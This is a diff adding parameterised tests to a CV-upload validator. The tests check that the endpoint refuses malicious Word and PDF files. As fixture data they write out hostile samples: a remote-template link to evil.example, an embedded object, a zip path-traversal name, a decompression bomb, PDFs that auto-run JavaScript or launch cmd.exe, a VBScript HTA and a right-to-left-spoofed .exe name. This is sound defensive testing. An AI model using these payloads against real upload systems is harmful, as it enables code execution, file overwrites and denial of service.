@@ -55,6 +55,19 @@ describe('a CV is a PDF or a Word file in which nothing runs', () => {
     expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv: 'must be a file of one of these types: pdf, docx' } } });
   });
 
+  const outside = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
+  test.each([
+    ['a template from elsewhere', wordFile({ 'word/_rels/settings.xml.rels': `<Relationships>${outside}</Relationships>` })],
+    ['an embedded object', wordFile({ 'word/embeddings/object1.bin': 'x' })],
+    ['a name that leads out', wordFile({ '../../../../tmp/x.txt': 'x' })],
+    ['forty megabytes packed into a few kilobytes', wordFile({ 'word/media/a.bin': '\0'.repeat(40_000_000) })],
+    ['a PDF that runs a script', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF')],
+    ['a PDF that starts a program', Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj\n%%EOF')],
+  ])('%s is refused and said', async (_, data) => {
+    const cv = 'holds something that runs, loads from elsewhere or unpacks to too much: save it as a plain PDF';
+    expect(await apply(data, 'cv.docx')).toMatchObject({ status: 415, json: { fields: { cv } } });
+  });
+
   test.each([
     ['cv.hta', 'cv.pdf', Buffer.from('%PDF-1.4\n<script language="VBScript">Run "calc"</script>')],
     ['\u202efdp.exe', 'fdp.pdf', Buffer.from('%PDF-1.4\n%another\n%%EOF\n')],
